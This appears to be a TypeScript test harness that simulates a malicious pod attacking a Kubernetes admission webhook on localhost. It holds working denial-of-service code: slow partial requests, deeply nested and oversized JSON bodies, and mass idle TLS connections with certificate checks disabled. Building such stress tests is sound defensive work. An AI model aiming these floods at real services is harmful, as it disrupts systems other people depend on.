/**
 * What somebody who means harm does to the webhook from a pod: a process of its own, so that what he spends is his. Runs
 * one attack on 127.0.0.1 for so many milliseconds, and ends.
 *
 *     node attacker.ts ATTACK PORT MILLISECONDS
 */
import { setPriority } from 'node:os';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect, type TLSSocket } from 'node:tls';

// His processors are those of another node.
setPriority(19);

const [attack = '', port = '0', duration = '0'] = process.argv.slice(2);
const MiB = 1024 * 1024;
const isOver = (
  (end: number) => () =>
    performance.now() > end
)(performance.now() + Number(duration));

/** A connection for which the handshake is done; undefined where it is not taken. */
async function connection(): Promise<TLSSocket | undefined> {
  // He needs no certificate of anybody, and does not ask whom he talks to.
  const socket = connect({ host: '127.0.0.1', port: Number(port), rejectUnauthorized: false });
  socket.on('error', () => undefined);
  return new Promise((resolve) => {
    socket.once('secureConnect', () => resolve(socket));
    socket.once('close', () => resolve(undefined));
  });
}

const headOf = (path: string, length: number): string =>
  `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: ${length}\r\n\r\n`;

/** Announces as much as there may be, sends one byte, and does so again as soon as it is turned away. */
async function silent(path: string): Promise<void> {
  while (!isOver()) {
    const socket = await connection();
    socket?.write(`${headOf(path, 7 * MiB)}{`);
    while (!isOver() && socket?.destroyed === false) await sleep(20);
    socket?.destroy();
  }
}

/** Sends a body, waits for what comes back, and does so again. */
async function repeat(body: Buffer): Promise<void> {
  while (!isOver()) {
    const socket = await connection();
    if (socket === undefined) continue;
    socket.write(headOf('/validate/gateways', body.length));
    socket.write(body);
    await new Promise<void>((resolve) => {
      socket.once('data', () => resolve());
      socket.once('close', () => resolve());
      const timer = setInterval(() => isOver() && resolve(), 100);
      socket.once('close', () => clearInterval(timer));
    });
    socket.destroy();
  }
}

/** Opens connections, each of which asks nothing, as fast as they are taken, and keeps all. */
async function open(many: number): Promise<void> {
  const sockets: (TLSSocket | undefined)[] = [];
  for (let count = 0; count < many && !isOver(); count += 1) sockets.push(await connection());
  while (!isOver()) await sleep(20);
  for (const socket of sockets) socket?.destroy();
}

/** A sound review with something large beside it. */
function reviewBeside(large: string): Buffer {
  const object = { metadata: { name: 'a' }, spec: {} };
  const review = {
    apiVersion: 'admission.k8s.io/v1',
    kind: 'AdmissionReview',
    request: { uid: 'u', operation: 'CREATE', object },
  };
  return Buffer.from(`${JSON.stringify(review).slice(0, -1)},"beside":${large}}`);
}

const times = (count: number, run: () => Promise<void>): Promise<void>[] =>
  Array.from({ length: count }, run);

const attacks: Readonly<Record<string, () => Promise<void>[]>> = {
  silence: () => [
    ...times(10, () => silent('/validate/gateways')),
    ...times(10, () => silent('/no/such/path')),
  ],
  nesting: () => {
    const half = Math.floor(3.4 * MiB);
    const body = reviewBeside('['.repeat(half) + ']'.repeat(half));
    return times(3, () => repeat(body));
  },
  values: () => {
    const body = reviewBeside(`[${'0,'.repeat(3 * MiB)}0]`);
    return times(20, () => repeat(body));
  },
  texts: () => {
    const body = reviewBeside(`[${`"${'x'.repeat(1000)}",`.repeat(6 * 1024)}0]`);
    return times(20, () => repeat(body));
  },
  connections: () => times(32, () => open(100)),
};

const run = attacks[attack];
if (run === undefined) throw new Error(`there is no attack ${attack}: ${Object.keys(attacks).join(', ')}`);
await Promise.all(run());
process.exit();
